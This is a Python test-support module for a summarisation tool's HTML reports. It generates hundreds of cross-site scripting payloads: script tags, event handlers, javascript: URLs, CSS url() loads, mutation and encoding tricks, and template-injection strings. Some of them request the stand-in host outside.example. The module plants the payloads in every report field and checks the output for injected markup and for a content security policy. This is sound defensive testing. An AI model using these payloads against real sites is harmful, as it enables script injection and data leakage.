"""Injected markup: strings that would run a script or send a request, and pages of a report with one in every place.

A string is a template. `$RUN` stands for a call that reports to the page that frames the report, `$URL` for an address
outside; both carry a number that names the string and the place it was put in.
"""

from __future__ import annotations

import itertools
import json
import re
import shutil
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from functools import partial
from html import escape
from pathlib import Path
from typing import Any
from unittest import mock

import numpy as np
from lxml import html

from nutgraf.errors import NutgrafError, PresetError
from nutgraf.judging.protocols import protocols
from nutgraf.judging.records import Fact, Item
from nutgraf.judging.sheets import render_page
from nutgraf.judging.study import make_study
from nutgraf.readers.reading import read
from nutgraf.report import page as report
from nutgraf.report.templates import asset
from nutgraf.systems import load
from nutgraf.text.clean import encodable
from nutgraf.text.document import Document, Phrase, Section, join
from nutgraf.text.summary import (
    Attention,
    Budget,
    Cut,
    Origin,
    SourceSignals,
    Summary,
    SummarySentence,
    SummaryWord,
    origin_of,
)

OUTSIDE = "outside.example"
"""The host that no report may ask for anything."""

FILES = (
    "file name", "plain text", "Markdown heading", "Markdown text", "Markdown code", "Markdown link", "HTML title",
    "HTML heading", "HTML text", "HTML raw", "HTML attributes", "DOCX heading", "DOCX text", "DOCX properties",
    "JSON id", "JSON section", "JSON text", "JSON documents", "PDF text", "PDF title", "preset name", "preset title",
    "preset about", "highlight", "missing highlight",
)  # fmt: skip
"""Places in what a person gives: documents, their names, a preset and options."""

NETWORKS = (
    "folder name",
    "card preset",
    "card field",
    "network title",
    "network about",
    "tokenizer",
    "source of a network",
)
"""Places in a trained model of somebody else, and in what its network reads."""

RECORDS = (
    "source name", "source text", "source heading", "folded heading", "section", "document notice", "notice",
    "language tag", "sentence", "generated word", "copied word", "expanded sentence", "phrase", "carried phrase",
    "share", "rule", "kind", "signature", "attention",
)  # fmt: skip
"""Places in the records that the page is made of, whoever filled them."""

SHEETS = ("judged document", "judged summary", "longer judged summary", "aspect", "judged fact")
"""Places in what judges are shown."""

ALL_PLACES = (*FILES, *NETWORKS, *RECORDS, *SHEETS)

PLACES = 64
"""Numbers kept for the places of one string."""

TEXT = "<p>$PAYLOAD</p>"
DOUBLE = '<p title="$PAYLOAD">x</p>'
SINGLE = "<p title='$PAYLOAD'>x</p>"
BARE = "<p title=$PAYLOAD>x</p>"
ADDRESS = '<a href="$PAYLOAD">x</a>'
SCRIPT_DOUBLE = '<script>var text = "$PAYLOAD";</script>'
SCRIPT_SINGLE = "<script>var text = '$PAYLOAD';</script>"
SCRIPT_TEMPLATE = "<script>var text = `$PAYLOAD`;</script>"
JSON = '<script type="application/json">{"text": "$PAYLOAD"}</script>'
STYLE = "<style>p { color: $PAYLOAD }</style><p>x</p>"
INSIDE = '<body><script>document.body.innerHTML = "<p>$PAYLOAD</p>"</script>'
"""Where a string does its harm if nobody escapes it: the text of an element, an attribute, a script, a style."""


@dataclass(frozen=True)
class Payload:
    """A string that is to be put into a report, and a page in which it does its harm when nothing is escaped."""

    text: str
    control: str = TEXT

    def numbered(self, number: int) -> str:
        """The string with its number in it."""
        return self.text.replace("$RUN", f"top.ran({number})").replace("$URL", f"http://{OUTSIDE}/{number}")


def payloads() -> list[Payload]:
    """All of them, each once, in a fixed order."""
    return list(dict.fromkeys(_payloads()))


_ENDS = {
    "": TEXT,
    '">': DOUBLE,
    "'>": SINGLE,
    " x>": BARE,
    "-->": "<!-- $PAYLOAD -->",
    "]]>": "<svg><![CDATA[$PAYLOAD]]></svg>",
    "</title>": "<title>$PAYLOAD</title>",
    "</textarea>": "<textarea>$PAYLOAD</textarea>",
    "</style>": STYLE,
    "</script>": SCRIPT_DOUBLE,
    '"}</script>': JSON,
    "</template>": "<template>$PAYLOAD</template>",
    "</select>": "<select><option>$PAYLOAD</select>",
    "</noscript>": "<noscript>$PAYLOAD</noscript>",
    "</svg>": "<svg><text>$PAYLOAD</text></svg>",
    "</bdi></h1></header></main>": "<main><header><h1><bdi>$PAYLOAD</bdi></h1></header></main>",
    "*/</style>": "<style>/* $PAYLOAD */</style>",
}
"""What ends a context, and the context that it ends."""

_ELEMENTS = (
    "<script>$RUN</script>",
    "<img src=x onerror=$RUN>",
    "<svg onload=$RUN>",
    "<details open ontoggle=$RUN>x</details>",
    '<iframe srcdoc="<script>$RUN</script>"></iframe>',
    '<iframe src="javascript:$RUN"></iframe>',
    '<a href="javascript:$RUN">x</a>',
    "<b onpointerover=$RUN>x</b>",
    "<input onfocus=$RUN autofocus>",
    "<img src=$URL>",
    '<meta http-equiv=refresh content="0;url=$URL">',
    "<style>@import '$URL';</style>",
)

_MORE_ELEMENTS = (
    "<body onload=$RUN>",
    "<body onpageshow=$RUN>",
    "<svg><script>$RUN</script></svg>",
    "<svg><animate onbegin=$RUN attributeName=x dur=1s>",
    "<svg><set onbegin=$RUN attributeName=x>",
    "<svg><a xlink:href=javascript:$RUN><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:$RUN /><text y=20>x</text></a></svg>",
    "<math><maction href=javascript:$RUN>x</maction></math>",
    "<video><source onerror=$RUN></video>",
    "<video src=x onerror=$RUN></video>",
    "<audio src=x onerror=$RUN></audio>",
    "<object data=x onerror=$RUN></object>",
    "<object data=javascript:$RUN></object>",
    "<embed src=javascript:$RUN>",
    "<link rel=stylesheet href=x onerror=$RUN>",
    "<style onload=$RUN></style>",
    "<script src=x onerror=$RUN></script>",
    "<script src=data:,$RUN></script>",
    "<script type=module>$RUN</script>",
    "<script type=module>import 'data:text/javascript,$RUN'</script>",
    "<script type=text/ecmascript>$RUN</script>",
    "<script defer src=data:,$RUN></script>",
    "<select onfocus=$RUN autofocus>",
    "<textarea onfocus=$RUN autofocus>",
    "<button onclick=$RUN>x</button>",
    "<button popovertarget=pop>x</button><div id=pop popover onbeforetoggle=$RUN>x</div>",
    "<button type=submit form=f formaction=javascript:$RUN>x</button><form id=f></form>",
    "<form action=javascript:$RUN><button>x</button></form>",
    "<form onsubmit=$RUN><button>x</button></form>",
    "<dialog open onclick=$RUN>x</dialog>",
    "<xss tabindex=1 onfocus=$RUN>x</xss>",
    "<xss contenteditable oninput=$RUN>x</xss>",
    "<marquee onstart=$RUN>x</marquee>",
    "<area href=javascript:$RUN shape=default>",
    "<map name=m><area href=javascript:$RUN shape=default></map><img usemap=#m>",
    "<template shadowrootmode=open><script>$RUN</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=$RUN></template></div>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=$RUN>x</b>",
    "<b style=display:block;transition:outline onpointerover=$RUN tabindex=1>x</b>",
    "<iframe onload=$RUN></iframe>",
    "<iframe srcdoc='<img src=x onerror=$RUN>'></iframe>",
    "<iframe srcdoc='&lt;script>$RUN&lt;/script>'></iframe>",
    "<iframe src='data:text/html,<img src=$URL>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=$RUN>'>",
    "<label onclick=$RUN>x<input></label>",
    "<summary onclick=$RUN>x</summary>",
    "<input type=image src=x onerror=$RUN>",
    "<input type=hidden accesskey=x onclick=$RUN>",
    "<picture><source srcset=x><img onerror=$RUN></picture>",
    "<frameset onload=$RUN>",
    "<image src=x onerror=$RUN>",
    "<table><td background=$URL>x</td></table>",
)

_SPELLINGS = (
    "<SCRIPT>$RUN</SCRIPT>",
    "<ScRiPt >$RUN</sCrIpT >",
    "<script\t>$RUN</script\n>",
    "<script/x>$RUN</script/x>",
    "<script x='>'>$RUN</script>",
    "<<script>$RUN</script>",
    "<script>$RUN<!--</script>",
    "<script><!--\n$RUN\n--></script>",
    "<script>/*<![CDATA[*/$RUN/*]]>*/</script>",
    "<script>setTimeout('$RUN')</script>",
    "<script>Function('$RUN')()</script>",
    "<script>eval('$RUN')</script>",
    "<script>Promise.resolve().then(()=>$RUN)</script>",
    "<script>1\u2028$RUN</script>",
    "<script>1\u2029$RUN</script>",
    "<script>//x\u2028$RUN</script>",
    "<script>\ufeff$RUN</script>",
    "<script>$RUN//",
    "<img/src=x/onerror=$RUN>",
    "<img src=x onerror = '$RUN'>",
    "<img src=x onerror\n=\n$RUN>",
    "<img src=x\fonerror=$RUN>",
    "<IMG SRC=x ONERROR=$RUN>",
    "<img src=x onerror=$RUN//",
    "<img src=x:x onerror=$RUN >",
    "<img src='' onerror=$RUN alt='>'>",
    "<img src=`x` onerror=$RUN>",
    "<svg/onload=$RUN>",
    "<svg\nonload=$RUN>",
    "<svg onload=$RUN//",
    "<svg onload='&#116;op.ran;$RUN'>",
    "<svg onload=&#x74;op;$RUN>",
    "<!--><svg onload=$RUN>-->",
    "<!--><svg onload=$RUN>",
    "<!-- --!><svg onload=$RUN>",
    "<?x ><svg onload=$RUN>?>",
    "</x ><svg onload=$RUN>",
    "<!x><svg onload=$RUN>",
    "<a\x0chref=javascript:$RUN>x</a>",
)

_QUOTES = {'"': DOUBLE, "'": SINGLE, " ": BARE, '" ': DOUBLE, "'/": SINGLE}

_HANDLERS = (
    "onpointerover=$RUN x=",
    "onmouseover=$RUN x=",
    "onclick=$RUN x=",
    "onfocus=$RUN tabindex=1 autofocus x=",
    "style=animation-name:k onpointerenter=$RUN x=",
    "oncontextmenu=$RUN x=",
    "onkeydown=$RUN tabindex=1 x=",
    "onbeforematch=$RUN onmouseenter=$RUN x=",
)

_SCHEMES = (
    "javascript:$RUN",
    "JaVaScRiPt:$RUN",
    " javascript:$RUN",
    "\x01javascript:$RUN",
    "java\tscript:$RUN",
    "java\nscript:$RUN",
    "javascript\n:$RUN",
    "javascript://x%0a$RUN",
    "javascript:/*--></title></style></textarea></script><svg onload=$RUN>*/$RUN",
    "&#106;avascript:$RUN",
    "&#x6a;&#x61;vascript:$RUN",
    "java&Tab;script&colon;$RUN",
    "java&NewLine;script:$RUN",
    "javascript&#58;$RUN",
    "javascript:'<script>$RUN</script>'",
    "javascript:void(0);$RUN",
    "$URL",
    "//" + OUTSIDE + "/$URL",
    "\\\\" + OUTSIDE + "\\$URL",
)

_OUT_OF_SCRIPTS = {
    '";$RUN//': SCRIPT_DOUBLE,
    '"-$RUN-"': SCRIPT_DOUBLE,
    '"+$RUN+"': SCRIPT_DOUBLE,
    '\\";$RUN//': SCRIPT_DOUBLE.replace("$PAYLOAD", "\\$PAYLOAD"),
    '"\u2028;$RUN//': SCRIPT_DOUBLE,
    '"};$RUN;var more = {"x": "': '<script>var all = {"text": "$PAYLOAD"};</script>',
    "';$RUN//": SCRIPT_SINGLE,
    "'-$RUN-'": SCRIPT_SINGLE,
    "\\x27;$RUN//';$RUN//": SCRIPT_SINGLE,
    "${$RUN}": SCRIPT_TEMPLATE,
    "`;$RUN//": SCRIPT_TEMPLATE,
    "</script><script>$RUN</script>": JSON,
    "</ScRiPt\t><script>$RUN</script>": JSON,
    "<!--<script></script></script><svg onload=$RUN>": JSON,
    "\\u003cimg src=x onerror=$RUN\\u003e": INSIDE,
    "\\x3cimg src=x onerror=$RUN\\x3e": INSIDE,
    "\\74img src=x onerror=$RUN\\76": INSIDE,
    "&lt;img src=x onerror=$RUN&gt;": "<p id=a>$PAYLOAD</p><script>a.innerHTML = a.textContent</script>",
    "&#60;img src=x onerror=$RUN&#62;": "<p id=a>$PAYLOAD</p><script>a.innerHTML = a.textContent</script>",
    "&#x3c;img src=x onerror=$RUN&#x3e;": "<p id=a>$PAYLOAD</p><script>a.innerHTML = a.textContent</script>",
    "&ltimg src=x onerror=$RUN&gt": "<p id=a>$PAYLOAD</p><script>a.innerHTML = a.textContent</script>",
    "%3Cimg src=x onerror=$RUN%3E": "<p id=a>$PAYLOAD</p><script>a.innerHTML = unescape(a.textContent)</script>",
}

_STYLES = {
    "red}*{background:url($URL)}": STYLE,
    "@import url($URL);": "<style>$PAYLOAD</style>",
    "red;background:url($URL)": STYLE,
    "red;background:image-set('$URL' 1x)": STYLE,
    "expression($RUN)": STYLE,
    "red;behavior:url($URL)": STYLE,
    "red;-moz-binding:url($URL)": STYLE,
    "red}@font-face{font-family:f;src:url($URL)}*{font-family:f": STYLE,
    "red}p{cursor:url($URL),auto;list-style-image:url($URL);display:list-item": STYLE,
    '";}</style><svg onload=$RUN>': STYLE,
}

_REQUESTS = (
    "<link rel=stylesheet href=$URL>",
    "<link rel=preload as=image href=$URL>",
    "<link rel=prefetch href=$URL>",
    "<link rel=modulepreload href=$URL>",
    "<link rel=icon href=$URL>",
    "<link rel=manifest href=$URL>",
    "<script src=$URL></script>",
    "<script type=module>import '$URL'</script>",
    "<iframe src=$URL></iframe>",
    "<object data=$URL></object>",
    "<embed src=$URL>",
    "<video src=$URL></video>",
    "<video poster=$URL></video>",
    "<audio src=$URL autoplay></audio>",
    "<video><track default src=$URL></video>",
    "<input type=image src=$URL>",
    "<img srcset=$URL>",
    "<picture><source srcset=$URL><img></picture>",
    "<svg><image href=$URL /></svg>",
    "<svg><image xlink:href=$URL /></svg>",
    "<svg><use href=$URL#a /></svg>",
    "<svg><filter id=f><feImage href=$URL /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
    "<body background=$URL>",
    "<b style=background:url($URL)>x</b>",
    "<b style='background:image-set(\"$URL\" 1x)'>x</b>",
    "<ul style=list-style-image:url($URL)><li>x</ul>",
    "<form action=$URL><button>x</button></form>",
    "<form><button formaction=$URL>x</button></form>",
    "<a href=$URL>x</a>",
    "<a href=# ping=$URL>x</a>",
    "<base href=$URL/><img src=x>",
    "<base href=$URL/><a href=x>x</a>",
    "<meta http-equiv=refresh content=0;$URL>",
    "<frameset><frame src=$URL></frameset>",
    "<svg><style>@import '$URL';</style></svg>",
    "<svg><script href=$URL /></svg>",
)

_NESTS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=$RUN&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=$RUN>'>",
    "<math><style><img src=x onerror=$RUN></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$RUN>",
    "<svg><foreignObject><style><!--</style><img src=x onerror=$RUN>--></style></foreignObject></svg>",
    "<table><tr><svg onload=$RUN></table>",
    "<table><script>$RUN</script></table>",
    "<select><template><svg onload=$RUN></template></select><svg onload=$RUN>",
    "<svg><title><img src=x onerror=$RUN></title></svg>",
    "<svg><desc><script>$RUN</script></desc></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=$RUN></annotation-xml></math>",
    "<p><p title='<p><img src=x onerror=$RUN>'><img src=x onerror=$RUN>",
    "<textarea></textarea/><img src=x onerror=$RUN>",
    "<xmp></xmp><img src=x onerror=$RUN>",
    "<plaintext></plaintext><script>$RUN</script>",
    "<b><i></b></i><svg onload=$RUN>",
    "<iframe><!--</iframe><svg onload=$RUN>-->",
    "<noembed></noembed><svg onload=$RUN>",
)

_ENCODINGS = (
    "+ADw-script+AD4-$RUN+ADw-/script+AD4-",
    "\x1b(J<script>$RUN</script>",
    "\x1b$B<script>$RUN</script>\x1b(B",
    "\uff1cscript\uff1e$RUN\uff1c/script\uff1e",
    "\u2039script\u203a$RUN\u2039/script\u203a",
    "\u02c2script\u02c3$RUN\u02c2/script\u02c3",
    "<\u200bscript>$RUN</script>",
    "<s\u0441ript>$RUN</s\u0441ript>",
    "<\u017fcript>$RUN</\u017fcript>",
    "<scr\x00ipt>$RUN</scr\x00ipt>",
    "<script\x00>$RUN</script>",
    "<img src=x onerror\x00=$RUN>",
    "<img src=x o\u0130error=$RUN>",
    "\u202e<script>$RUN</script>\u202c",
    "\u2066<svg onload=$RUN>\u2069",
    "\ufeff<svg onload=$RUN>",
    "\ud800<svg onload=$RUN>",
    "\x85<svg onload=$RUN>",
    "\x1f<svg onload=$RUN>",
    "<\ufeffsvg onload=$RUN><svg onload=$RUN>",
)

_TEMPLATES = (
    "{{ '<svg onload=$RUN>' | safe }}",
    "{{ cycler.__init__.__globals__ }}<svg onload=$RUN>",
    "{% raw %}<svg onload=$RUN>{% endraw %}",
    "{# <svg onload=$RUN> #}",
    "{% endfor %}{% endmacro %}<svg onload=$RUN>",
    "{%- autoescape false %}<svg onload=$RUN>{% endautoescape %}",
    "%s%(x)s{0}{x!r}$$<svg onload=$RUN>",
    "[x](javascript:$RUN)<svg onload=$RUN>",
    "![x](javascript:$RUN)<svg onload=$RUN>",
    "[x]: javascript:$RUN\n\n<svg onload=$RUN>",
    "`<svg onload=$RUN>`",
    "<javascript:$RUN><svg onload=$RUN>",
)


def _payloads() -> Iterator[Payload]:
    for (end, control), element in itertools.product(_ENDS.items(), _ELEMENTS):
        yield Payload(end + element, control)
    for element in (*_MORE_ELEMENTS, *_SPELLINGS, *_REQUESTS, *_NESTS, *_ENCODINGS, *_TEMPLATES):
        yield Payload(element)
    for (quote, control), handler in itertools.product(_QUOTES.items(), _HANDLERS):
        yield Payload(f"x{quote} {handler}{quote.strip(' /')}", control)
    for scheme in _SCHEMES:
        yield Payload(scheme, ADDRESS)
    for text, control in {**_OUT_OF_SCRIPTS, **_STYLES}.items():
        yield Payload(text, control)


class Marker:
    """One payload, with a number of its own in each place."""

    def __init__(self, payload: Payload, index: int) -> None:
        self._payload = payload
        self._index = index

    def __call__(self, place: str) -> str:
        return self._payload.numbered(self._index * PLACES + ALL_PLACES.index(place))


class Harmless(Marker):
    """Words instead of a payload: the same pages without any harm, to compare with."""

    def __init__(self) -> None:
        pass

    def __call__(self, place: str) -> str:
        return f"the grey {place}"


def place_of(number: int) -> tuple[int, str]:
    """The index of the payload and the place that a number stands for."""
    index, place = divmod(number, PLACES)
    return index, ALL_PLACES[place]


FILLER = "The ferry left the harbour at noon. It carried a piano for the school on the island. "


def page_of_records(mark: Marker) -> str:
    """A report made of records whose every text is the payload."""
    first = f"{mark('source heading')}\n\n{FILLER}{mark('source text')} So said the captain.\n\n{FILLER}"
    folded = f"{mark('folded heading')}\n\n{FILLER * 12}\n\n" * 9
    documents = [
        _document(f"notes/{mark('source name')}", first, mark, len(mark("source heading"))),
        _document(f"{mark('source name')}.txt", folded + first, mark, len(mark("folded heading"))),
    ]
    document = join(documents)
    sentence = document.sentences[0]
    origin = origin_of(document, sentence.start, sentence.end)
    tail = Cut(0, len(first) - len(FILLER), len(first) - 40, 9, mark("rule"))
    elsewhere = Origin(1, origin.start, origin.end)
    words = tuple(_words(mark, origin))
    made = (
        SummarySentence(mark("sentence"), "copied", (origin, elsewhere), 1.0, {mark("share"): 0.5}),
        SummarySentence(
            f"{mark('sentence')} {mark('carried phrase')}", "expanded", (origin,), expands=mark("expanded sentence")
        ),
        # No source has the number, so that this sentence is flagged whatever the payload is.
        SummarySentence(" ".join(word.text for word in words) + " 7,391", "generated", (origin,), words=words),
    )  # fmt: skip
    at = document.text.index(encodable(mark("source text")))
    phrases = (
        Phrase(mark("phrase"), 1.0, ((at, at + len(mark("source text"))),)),
        Phrase(mark("carried phrase"), 1.0),
    )
    summary = Summary(
        made,
        document,
        Budget(words=50),
        mark("signature"),
        limit=50,
        find_phrases=lambda: phrases,
        cut=(tail,),
        find_excluded=partial(dict, {mark("kind"): 2}),
        notices=(mark("notice"),),
    )
    places = tuple(origin_of(document, one.start, one.end) for one in document.sentences[:2])
    even = np.full(2, 0.5)
    attention = Attention((mark("attention"), "x"), np.full((1, 2, 2, 2), 0.5, np.float32), 2, ((0, 1),))
    return report.render(summary, attention, SourceSignals(places, even, even, np.full((3, 2), 0.5)))


def pages_of_study(mark: Marker) -> Iterator[str]:
    """Sheets of judges whose every text is the payload: one of preferences, and one of facts."""
    named = {"aspects": (mark("aspect"),), "judges_per_item": 1}
    summary, longer = mark("judged summary"), mark("longer judged summary")
    fact = Fact(mark("judged fact"), "yes")
    item = Item("one", {"first": (summary,), "second": (summary,)}, mark("judged document"))
    try:
        yield _sheet("pairwise", named, item, 1)
    except PresetError:  # an aspect is a word: no brackets, no commas
        yield _sheet("pairwise", {"aspects": ("overall",)}, item, 1)
    growing = replace(item, summaries={"first": (summary, longer)}, facts=(fact,))
    yield _sheet("fact_checking", {"no_content": False, "full_content": False, "judges_per_setting": 1}, growing, 1)


def _sheet(kind: str, options: dict[str, Any], item: Item, judges: int) -> str:
    study = make_study(protocols.choose(kind, **options), [item], judges, 0)
    return render_page(study, {item.id: item}, study.judges[0], study.tasks)


def _document(name: str, text: str, mark: Marker, heading: int) -> Document:
    starts = [match.start() for match in re.finditer(r"(?<=\n\n).", text)]
    sentences = [(start, min(start + len(FILLER), len(text))) for start in starts if text[start:].startswith("The")]
    sections = [Section(mark("section"), heading, len(text))]
    notices = [mark("document notice")]
    made = Document.of(text, name, sections=sections, sentences=sentences, notices=notices, language="en")
    return replace(made, language=mark("language tag"))


def _words(mark: Marker, origin: Origin) -> Iterator[SummaryWord]:
    generated, copied = mark("generated word"), mark("copied word")
    yield SummaryWord(generated, 0, "generated", None, 0.5, 0.25)
    yield SummaryWord(copied, len(generated) + 1, "copied", origin, 0.5, 0.75)


def page_of_files(mark: Marker, folder: Path) -> str:
    """A report of files in every format, by a preset of the user's own, with highlights: the payload wherever a person
    can put one. folder: empty; the files are written here."""
    named = f"{folder}/{_printable(mark('file name'))}"
    Path(f"{named}.txt").parent.mkdir(parents=True, exist_ok=True)
    given = [
        _write(f"{named}.txt", f"{FILLER}{mark('plain text')} {mark('highlight')}\n\n{FILLER}"),
        _write(f"{folder}/given.md", _markdown(mark)),
        _write(f"{folder}/given.html", _html(mark)),
        _write(f"{folder}/given.jsonl", _json_lines(mark)),
        _docx(f"{folder}/given.docx", mark),
        _pdf(f"{folder}/given.pdf", mark),
    ]
    documents = [document for path in given for document in _read(path)]
    highlights = {mark("highlight"): 2.0, mark("missing highlight"): 1.0}
    return report.render(load(_preset(folder, mark))(documents, sentences=9, highlights=highlights))


def _read(path: str) -> list[Document]:
    """Nothing, if the file is refused."""
    try:
        return read(path, "en")
    except NutgrafError:
        return []


def _write(path: str, text: str) -> str:
    Path(path).write_text(text, encoding="utf-8", errors="replace")
    return path


def _preset(folder: Path, mark: Marker) -> str:
    """A preset of the user's own. A table in JSON's spelling is one in TOML's, but for halves of surrogate pairs."""
    path = f"{folder}/{_printable(mark('preset name'))}.toml"
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    title, about = (json.dumps(_printable(mark(place))) for place in ("preset title", "preset about"))
    return _write(path, f'extends = "lead"\ntitle = {title}\nabout = {about}\n')


def _markdown(mark: Marker) -> str:
    heading = " ".join(mark("Markdown heading").split())
    code, link = mark("Markdown code"), mark("Markdown link")
    return (
        f"# {heading}\n\n{FILLER}\n\n{mark('Markdown text')}\n\n{FILLER}\n\nIt said ```` {code} ````, as *ever*.\n\n"
        f"{FILLER}\n\n[The {link} link](<{link}> '{link}') ![{link}]({link}) was seen.\n\n"
    )


def _html(mark: Marker) -> str:
    at = {place: escape(mark(place)) for place in ("HTML title", "HTML heading", "HTML text", "HTML attributes")}
    kept = " ".join(f'{name}="{at["HTML attributes"]}"' for name in ("title", "href", "class", "lang"))
    return (
        f'<!doctype html><html lang="{at["HTML attributes"]}"><title>{at["HTML title"]}</title><body><article>'
        f"<h1>{at['HTML heading']}</h1><p>{FILLER * 2}{at['HTML text']}</p><p {kept}>{FILLER * 2}</p>"
        f"<p>{FILLER * 2}{_printable(mark('HTML raw'))}</p><p>{FILLER * 2}</p></article></body></html>"
    )


def _json_lines(mark: Marker) -> str:
    named = {"id": mark("JSON id"), "title": mark("JSON id"), "summary": mark("JSON id")}
    section = {"name": mark("JSON section"), "text": f"{FILLER}{mark('JSON text')} {FILLER}"}
    documents = [f"{FILLER}{mark('JSON documents')}", FILLER]
    rows = [{**named, "sections": [section]}, {**named, "documents": documents}]
    return "\n".join(json.dumps(row) for row in rows)


def _docx(path: str, mark: Marker) -> str:
    import docx

    written = docx.Document()
    written.add_heading(_printable(mark("DOCX heading")))
    written.add_paragraph(FILLER + _printable(mark("DOCX text")))
    for field in ("title", "author", "subject", "keywords", "comments", "category"):
        setattr(written.core_properties, field, _printable(mark("DOCX properties")))
    written.save(path)
    return path


def _pdf(path: str, mark: Marker) -> str:
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(2000, 800)
    font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica", "/Encoding": "/WinAnsiEncoding"}
    fonts = DictionaryObject({NameObject("/F1"): _names(font)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    content = DecodedStreamObject()
    shown = [FILLER, *_printable(mark("PDF text")).split("\n"), FILLER]
    drawn = "".join(f"1 0 0 1 72 {700 - 14 * row} Tm <{_latin(line)}> Tj\n" for row, line in enumerate(shown))
    content.set_data(f"BT /F1 11 Tf\n{drawn}ET".encode())
    page[NameObject("/Contents")] = writer._add_object(content)
    writer.add_metadata({"/Title": _printable(mark("PDF title"))})
    writer.write(path)
    return path


LEARNED = "The ferry Agnes left Tremouth at noon on Monday. It carried forty passengers and a piano. Nobody was hurt."
"""A text like those that the tests' small network has learned by heart."""


def page_of_network(mark: Marker, trained: Path, folder: Path) -> str:
    """A report of what a network wrote whose folder came from somebody else: the payload in its name, card, preset and
    tokenizer.

    Args:
        mark: The payload.
        trained: A trained model.
        folder: An empty one, for its copy.
    """
    copy = Path(f"{folder}/{_printable(mark('folder name'))}/trained")
    shutil.copytree(trained, copy)
    card = json.loads((copy / "card.json").read_text(encoding="utf-8"))
    card |= {"preset": mark("card preset"), "about": mark("card field"), "data": {"name": mark("card field")}}
    _write(str(copy / "card.json"), json.dumps(card))
    title, about = (json.dumps(_printable(mark(place))) for place in ("network title", "network about"))
    settings = re.sub(r"(?m)^(?:title|about) = .*\n", "", (copy / "preset.toml").read_text(encoding="utf-8"))
    _write(str(copy / "preset.toml"), f"title = {title}\nabout = {about}\n{settings}")
    path = copy / "tokenizer" / "words.json"
    vocabulary = json.loads(path.read_text(encoding="utf-8"))
    own = [f"{mark('tokenizer')}{number}" for number in range(10)]
    vocabulary["words"] = [*vocabulary["words"][:1], *own, *vocabulary["words"][11:]]
    _write(str(path), json.dumps(vocabulary))
    system = load(copy)
    summary = system(Document.of(f"{LEARNED} {mark('source of a network')} {LEARNED}", language="en"))
    return report.render(summary, system.attention(summary), system.signals(summary))


def write_pages_of_network() -> None:
    """Write such reports as `<number>.html` into the working directory; `harmless.html` is that of no payload.

    The arguments of the command line are the trained model and the numbers of payloads.
    """
    trained, numbers = Path(sys.argv[1]), sys.argv[2:]
    given = payloads()
    for number in ("harmless", *numbers):
        mark = Harmless() if number == "harmless" else Marker(given[int(number)], int(number))
        page = page_of_network(mark, trained, Path(f"copy-{number}"))
        Path(f"{number}.html").write_text(page, encoding="utf-8", errors="surrogatepass")


def _names(table: dict[str, str]) -> Any:
    from pypdf.generic import DictionaryObject, NameObject

    return DictionaryObject({NameObject(key): NameObject(value) for key, value in table.items()})


def _latin(line: str) -> str:
    return line.encode("cp1252", "replace").hex()


def _printable(text: str) -> str:
    """Without what neither XML nor a file name can hold."""
    return _UNHOLDABLE.sub("", text)


_UNHOLDABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


Shape = tuple[str, tuple[str, ...]]
"""An element's tag and the names of its attributes."""


def shapes_of(page: str) -> set[Shape]:
    """Every shape of element on a page."""
    return {
        (str(element.tag), tuple(sorted(element.attrib)))
        for element in html.document_fromstring(page).iter()
        if isinstance(element.tag, str)
    }


def faults_of(page: str, shapes: set[Shape]) -> list[str]:
    """What a page holds that a report never does: elements of other shapes, comments, scripts and styles that are not
    ours, links that lead out of the page, a policy that does not come first.

    Args:
        page: The HTML.
        shapes: Those of harmless pages.
    """
    tree = html.document_fromstring(page)
    comments = [f"comment {one.text!r}" for one in tree.iter() if not isinstance(one.tag, str)]
    others = [f"element {tag} with {names}" for tag, names in sorted(shapes_of(page) - shapes)]
    links = [
        f"address {value!r}"
        for value in tree.xpath("//@href | //@src | //@action | //@formaction | //@data | //@srcdoc | //@poster")
        if not re.fullmatch(r"#[a-z]+(?:-\d+)?", value)
    ]
    return [*comments, *others, *links, *_foreign_code(tree), *_policy_faults(tree)]


def _foreign_code(tree: Any) -> list[str]:
    style = "".join(asset("report.assets", name) for name in report.STYLES)
    own = [[style], [asset("report.assets", name) for name in report.SCRIPTS]]
    data = [one.text for one in tree.xpath("//script[@type='application/json']")]
    sheet = asset("report.assets", "colours.css") + asset("judging", "sheet.css")
    of_sheet = [[sheet], [*data[:1], asset("judging", "sheet.js")]]
    found = [[one.text for one in tree.iter(tag)] for tag in ("style", "script")]
    return [] if found in (own, of_sheet) else ["a script or style that is not ours"]


def _policy_faults(tree: Any) -> list[str]:
    first = [(one.tag, one.get("http-equiv")) for one in tree.find("head")[:2]]
    policy = tree.xpath("//meta[@http-equiv]/@content")
    stands = first == [("meta", None), ("meta", "Content-Security-Policy")] and len(policy) == 1
    return [] if stands and "default-src 'none'" in policy[0] else ["no policy at its place"]


@contextmanager
def nothing_escaped() -> Iterator[None]:
    """Reports are drawn without escaping: to see whether anybody would notice."""
    template = report._template()
    careless = template.environment.overlay(autoescape=False).get_template("page.html.jinja")
    with mock.patch.object(report, "_template", return_value=careless):
        yield
